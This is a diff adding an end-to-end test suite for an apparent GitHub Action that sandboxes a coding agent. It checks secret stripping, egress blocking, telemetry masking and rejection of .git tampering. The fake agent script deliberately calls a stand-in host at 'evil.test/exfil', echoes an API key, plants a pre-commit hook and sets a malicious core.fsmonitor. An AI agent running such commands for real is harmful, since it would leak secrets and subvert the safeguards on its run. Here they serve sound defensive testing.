@@ -1,0 +1,256 @@
+/**
+ * End to end: a fake agent (a bash command) against a local bare git remote, the real egress proxy with a fake
+ * resolver, nock for the pull-request API and an injected artifact uploader.
+ */
+import { existsSync, readFileSync } from "node:fs";
+import http from "node:http";
+import type { AddressInfo } from "node:net";
+import path from "node:path";
+import { zipSync } from "fflate";
+import nock from "nock";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { BUNDLE_ARTIFACT_NAME, bundleEventSchema, bundleManifestSchema, networkAttemptSchema } from "../../src/telemetry/bundle.js";
+import { parseTelemetryArtifact } from "../../src/telemetry/artifact.js";
+import { parseNativeBundle } from "../../src/telemetry/parse.js";
+import { openPullRequest } from "../src/github.js";
+import { readContext, readInputs } from "../src/inputs.js";
+import { runAgentGate, type RunDeps } from "../src/run.js";
+import { git, makeRepo, recordingReporter, runnerEnv, type Fixture } from "./helpers.js";
+
+let upstream: http.Server;
+let upstreamPort = 0;
+beforeAll(async () => {
+  upstream = http.createServer((_req, res) => res.end("docs page"));
+  await new Promise<void>((r) => upstream.listen(0, "127.0.0.1", r));
+  upstreamPort = (upstream.address() as AddressInfo).port;
+});
+afterAll(() => new Promise<void>((r) => upstream.close(() => r())));
+
+const fixtures: Fixture[] = [];
+afterEach(() => {
+  for (const f of fixtures.splice(0)) f.cleanup();
+});
+
+function setup(command: string, inputOverrides: Record<string, string> = {}) {
+  const fx = makeRepo();
+  fixtures.push(fx);
+  const env = runnerEnv(fx);
+  const inputs = readInputs((name) =>
+    ({
+      prompt: "Update the greeting in src/app.js and remove old.txt",
+      agent: "command",
+      command,
+      "allowed-domains": `docs.allowed.test:${upstreamPort}\n*.pypi.test`,
+      "github-token": env.GITHUB_TOKEN!,
+      "agent-env": "OPENAI_API_KEY",
+      ...inputOverrides,
+    })[name] ?? "",
+  );
+  const ctx = readContext(env);
+  const reporter = recordingReporter();
+  const uploads: Array<{ name: string; files: Record<string, string>; root: string }> = [];
+  const deps: RunDeps = {
+    env,
+    reporter,
+    sandboxUser: null,
+    remoteUrl: fx.remote,
+    openPullRequest,
+    uploadArtifact: async (name, files, root) => {
+      uploads.push({ name, root, files: Object.fromEntries(files.map((f) => [path.relative(root, f), readFileSync(f, "utf8")])) });
+      return { id: 1 };
+    },
+    resolve: async (host) => (host.endsWith(".allowed.test") ? ["127.0.0.1"] : ["93.184.216.34"]),
+    allowLoopbackUpstreams: true,
+  };
+  return { fx, env, inputs, ctx, reporter, uploads, deps };
+}
+
+const FAKE_AGENT = String.raw`
+set -u
+echo "console.log('hello from the agent');" > src/app.js
+git rm -q old.txt 2>/dev/null || rm old.txt
+mkdir -p docs && printf 'notes\n' > docs/notes.md
+{
+  [ -z "${"$"}{GITHUB_TOKEN:-}" ] && echo "GITHUB_TOKEN absent"
+  [ -z "${"$"}{ACTIONS_RUNTIME_TOKEN:-}" ] && echo "ACTIONS_RUNTIME_TOKEN absent"
+  [ -z "${"$"}{DATABASE_PASSWORD:-}" ] && echo "DATABASE_PASSWORD absent"
+  [ -n "${"$"}{OPENAI_API_KEY:-}" ] && echo "OPENAI_API_KEY present"
+  echo "prompt: $AGENT_GATE_PROMPT"
+} > docs/env-seen.txt
+curl -s --max-time 5 http://docs.allowed.test:PORT/page > docs/fetched.txt || echo fetch-failed > docs/fetched.txt
+curl -s -o /dev/null -w '%{http_code}' --max-time 5 http://evil.test/exfil > docs/evil-status.txt || true
+curl -s --max-time 5 https://evil.test/ >/dev/null 2>&1 || echo "https refused" >> docs/evil-status.txt
+printf '%s\n' '{"time":"2030-01-01T00:00:00Z","type":"decision","decision":"Keep the greeting short","rationale":"One line is enough","alternatives":["a banner"],"files":["src/app.js"]}' >> "$AGENT_GATE_DECISIONS_FILE"
+printf '%s\n' '{"time":"2030-01-01T00:00:00Z","type":"command","command":"forged","exitCode":0}' 'not json' >> "$AGENT_GATE_DECISIONS_FILE"
+echo "using key $OPENAI_API_KEY"
+`;
+
+describe("end to end with a fake agent", () => {
+  it("commits, pushes agent/<run id> with the trailer, opens the PR and uploads a valid bundle", async () => {
+    const t = setup(FAKE_AGENT.replace("PORT", String(upstreamPort)));
+    let prBody: Record<string, unknown> = {};
+    const scope = nock("https://api.github.com", { reqheaders: { authorization: "token ghs_workflowtoken1234567890" } })
+      .post("/repos/octo/demo/pulls", (body: Record<string, unknown>) => ((prBody = body), true))
+      .reply(201, { number: 17, html_url: "https://github.com/octo/demo/pull/17" });
+
+    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
+
+    expect(result.failure).toBeNull();
+    expect(result.outcome).toBe("succeeded");
+    expect(scope.isDone()).toBe(true);
+    expect(nock.pendingMocks()).toEqual([]);
+
+    // The remote has the branch, with the action's commit and trailer.
+    const remoteSha = git(t.fx.remote, "rev-parse", "refs/heads/agent/4242");
+    expect(result.manifest?.headSha).toBe(remoteSha);
+    const message = git(t.fx.remote, "log", "-1", "--format=%B", "agent/4242");
+    expect(message).toMatch(/^agent: Update the greeting in src\/app\.js and remove old\.txt/);
+    expect(git(t.fx.remote, "log", "-1", "--format=%(trailers:key=Agent-Gate-Run,valueonly)", "agent/4242")).toBe("https://github.com/octo/demo/actions/runs/4242");
+    expect(git(t.fx.remote, "log", "-1", "--format=%an <%ae>", "agent/4242")).toBe("github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>");
+    expect(git(t.fx.remote, "show", "agent/4242:src/app.js")).toBe("console.log('hello from the agent');");
+    expect(git(t.fx.remote, "ls-tree", "-r", "--name-only", "agent/4242").split("\n").sort()).toEqual(
+      ["README.md", "docs/env-seen.txt", "docs/evil-status.txt", "docs/fetched.txt", "docs/notes.md", "src/app.js"].sort(),
+    );
+    // What the agent saw: no token, no runner credentials, no other secret, only the named key; the proxy worked.
+    expect(git(t.fx.remote, "show", "agent/4242:docs/env-seen.txt").split("\n")).toEqual([
+      "GITHUB_TOKEN absent",
+      "ACTIONS_RUNTIME_TOKEN absent",
+      "DATABASE_PASSWORD absent",
+      "OPENAI_API_KEY present",
+      "prompt: Update the greeting in src/app.js and remove old.txt",
+    ]);
+    expect(git(t.fx.remote, "show", "agent/4242:docs/fetched.txt")).toBe("docs page");
+    expect(git(t.fx.remote, "show", "agent/4242:docs/evil-status.txt")).toBe("403https refused");
+    // The token was never written into the checkout's config.
+    const config = readFileSync(path.join(t.fx.workspace, ".git", "config"), "utf8");
+    expect(config).not.toMatch(/extraheader|ghs_/i);
+    expect(git(t.fx.remote, "rev-parse", "refs/heads/main")).not.toBe(remoteSha);
+
+    // The pull request request.
+    expect(prBody).toMatchObject({ head: "agent/4242", base: "main", title: "agent: Update the greeting in src/app.js and remove old.txt" });
+    expect(prBody.body).toContain("Update the greeting in src/app.js and remove old.txt");
+    expect(prBody.body).toContain("https://github.com/octo/demo/actions/runs/4242");
+    expect(prBody.body).toContain("`command`");
+
+    // Outputs and summary.
+    expect(t.reporter.outputs).toMatchObject({ branch: "agent/4242", "pull-request-number": "17", "pull-request-url": "https://github.com/octo/demo/pull/17" });
+    expect(t.reporter.outputs["telemetry-path"]).toBe(result.telemetryPath);
+    expect(t.reporter.secrets).toEqual(expect.arrayContaining(["ghs_workflowtoken1234567890", "sk-test-openai-key-0001"]));
+    const summary = t.reporter.summaries.join("\n");
+    expect(summary).toContain("✅ succeeded");
+    expect(summary).toMatch(/2 blocked/);
+    expect(summary).toContain("`evil.test`");
+
+    // The bundle: uploaded under the contract's name, valid, and naming this run, PR and commit.
+    expect(t.uploads).toHaveLength(1);
+    const upload = t.uploads[0]!;
+    expect(upload.name).toBe(BUNDLE_ARTIFACT_NAME);
+    expect(Object.keys(upload.files).sort()).toEqual(["events.jsonl", "manifest.json", "network.jsonl"]);
+    const manifest = bundleManifestSchema.parse(JSON.parse(upload.files["manifest.json"]!));
+    expect(manifest).toMatchObject({
+      version: 1,
+      repository: "octo/demo",
+      runId: 4242,
+      runAttempt: 1,
+      workflowPath: ".github/workflows/agent.yml",
+      pullRequest: { number: 17, url: "https://github.com/octo/demo/pull/17" },
+      branch: "agent/4242",
+      headSha: remoteSha,
+      baseRef: "main",
+      agent: { name: "command" },
+      triggeredBy: "mona",
+      outcome: "succeeded",
+      exitCode: 0,
+      network: { mode: "block", allowedDomains: [`docs.allowed.test:${upstreamPort}`, "*.pypi.test"] },
+    });
+    const events = upload.files["events.jsonl"]!.trim().split("\n").map((l) => bundleEventSchema.parse(JSON.parse(l)));
+    const network = upload.files["network.jsonl"]!.trim().split("\n").map((l) => networkAttemptSchema.parse(JSON.parse(l)));
+    expect(events.filter((e) => e.type === "decision")).toEqual([
+      expect.objectContaining({ decision: "Keep the greeting short", rationale: "One line is enough", alternatives: ["a banner"], files: ["src/app.js"] }),
+    ]);
+    expect(events.some((e) => e.type === "command" && e.command === "forged")).toBe(false);
+    expect(events).toContainEqual(expect.objectContaining({ type: "error", message: "ignored 2 invalid line(s) in the decisions file" }));
+    expect(events.filter((e) => e.type === "file_change").map((e) => (e.type === "file_change" ? `${e.kind} ${e.path}` : "")).sort()).toEqual(
+      ["add docs/env-seen.txt", "add docs/evil-status.txt", "add docs/fetched.txt", "add docs/notes.md", "delete old.txt", "update src/app.js"].sort(),
+    );
+    const agentCommand = events.find((e) => e.type === "command" && e.command.startsWith("bash -c"));
+    expect(agentCommand).toMatchObject({ exitCode: 0 });
+    expect(events.some((e) => e.type === "command" && e.command.includes("git") && e.command.includes("push"))).toBe(true);
+    expect(network.map((a) => `${a.method} ${a.host} ${a.allowed} ${a.reason}`)).toEqual([
+      `HTTP docs.allowed.test true allowlisted`,
+      `HTTP evil.test false not-allowlisted`,
+      `CONNECT evil.test false not-allowlisted`,
+    ]);
+    // Secrets handed to or held by the run never reach the telemetry.
+    const everything = Object.values(upload.files).join("\n");
+    expect(everything).not.toContain("sk-test-openai-key-0001");
+    expect(everything).not.toContain("ghs_workflowtoken1234567890");
+    expect(everything).toContain("using key ***");
+    // Times are ordered.
+    const times = events.map((e) => e.time);
+    expect([...times].sort()).toEqual(times);
+
+    // Round trip through the App's parsers: the files as they are, and as the artifact zip the App downloads.
+    const parsed = parseNativeBundle({ manifest: upload.files["manifest.json"]!, events: upload.files["events.jsonl"]!, network: upload.files["network.jsonl"]! });
+    expect(parsed.manifest).toEqual(manifest);
+    expect(parsed.trace.stats.malformedTotal).toBe(0);
+    expect(parsed.trace.files.paths.map((p) => p.path).sort()).toEqual(["docs/env-seen.txt", "docs/evil-status.txt", "docs/fetched.txt", "docs/notes.md", "old.txt", "src/app.js"]);
+    expect(parsed.trace.steps.filter((s) => s.kind === "decision")).toHaveLength(1);
+    expect(parsed.trace.steps.filter((s) => s.kind === "network" )).toHaveLength(3);
+    const zip = zipSync(Object.fromEntries(Object.entries(upload.files).map(([n, c]) => [n, new TextEncoder().encode(c)])));
+    const fromZip = parseTelemetryArtifact(zip);
+    expect(fromZip.format).toBe("native");
+    expect(fromZip.manifest).toEqual(manifest);
+    expect(fromZip.trace.steps.length).toBe(parsed.trace.steps.length);
+  });
+
+  it("no changes: no commit, no branch, no pull request, a clear summary and a bundle saying no_changes", async () => {
+    const t = setup("echo looked around; ls > /dev/null");
+    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
+    expect(result).toMatchObject({ outcome: "no_changes", failure: null, pullRequest: null, branch: null });
+    expect(() => git(t.fx.remote, "rev-parse", "--verify", "-q", "refs/heads/agent/4242")).toThrow();
+    expect(t.reporter.outputs).not.toHaveProperty("pull-request-number");
+    expect(t.reporter.summaries.join("\n")).toContain("The agent changed no files, so no pull request was opened.");
+    const manifest = bundleManifestSchema.parse(JSON.parse(t.uploads[0]!.files["manifest.json"]!));
+    expect(manifest).toMatchObject({ outcome: "no_changes", pullRequest: null, headSha: null, branch: "agent/4242" });
+  });
+
+  it("an agent that writes .git/hooks fails the run: nothing committed, nothing pushed, the hook never runs", async () => {
+    const marker = "hook-ran.txt";
+    const t = setup(`echo change >> README.md; printf '#!/bin/sh\\ntouch "$GIT_DIR/../${marker}"\\ntouch /tmp/agent-gate-hook-ran-$$\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`);
+    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
+    expect(result.outcome).toBe("failed");
+    expect(result.failure).toMatch(/the agent wrote under \.git \(hooks\/pre-commit\)/);
+    expect(result.pullRequest).toBeNull();
+    expect(() => git(t.fx.remote, "rev-parse", "--verify", "-q", "refs/heads/agent/4242")).toThrow();
+    expect(existsSync(path.join(t.fx.workspace, marker))).toBe(false);
+    const manifest = bundleManifestSchema.parse(JSON.parse(t.uploads[0]!.files["manifest.json"]!));
+    expect(manifest.outcome).toBe("failed");
+    expect(t.uploads[0]!.files["events.jsonl"]).toContain("wrote under .git");
+  });
+
+  it("an agent that rewrites .git/config fails the run", async () => {
+    const t = setup(`echo x >> README.md; git config core.fsmonitor 'touch /tmp/pwned'`);
+    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
+    expect(result.failure).toMatch(/wrote under \.git \(config\)/);
+    expect(() => git(t.fx.remote, "rev-parse", "--verify", "-q", "refs/heads/agent/4242")).toThrow();
+  });
+
+  it("an agent that exits non-zero fails the run without a pull request", async () => {
+    const t = setup("echo partial > partial.txt; echo boom >&2; exit 3");
+    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
+    expect(result).toMatchObject({ outcome: "failed", pullRequest: null });
+    expect(result.failure).toMatch(/exited with 3/);
+    const events = t.uploads[0]!.files["events.jsonl"]!;
+    expect(events).toContain('"exitCode":3');
+    expect(events).toContain("boom");
+  });
+
+  it("a checkout that persisted credentials fails before the agent starts", async () => {
+    const t = setup("touch agent-ran.txt");
+    git(t.fx.workspace, "config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hz");
+    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
+    expect(result.failure).toMatch(/persist-credentials: false/);
+    expect(existsSync(path.join(t.fx.workspace, "agent-ran.txt"))).toBe(false);
+  });
+});
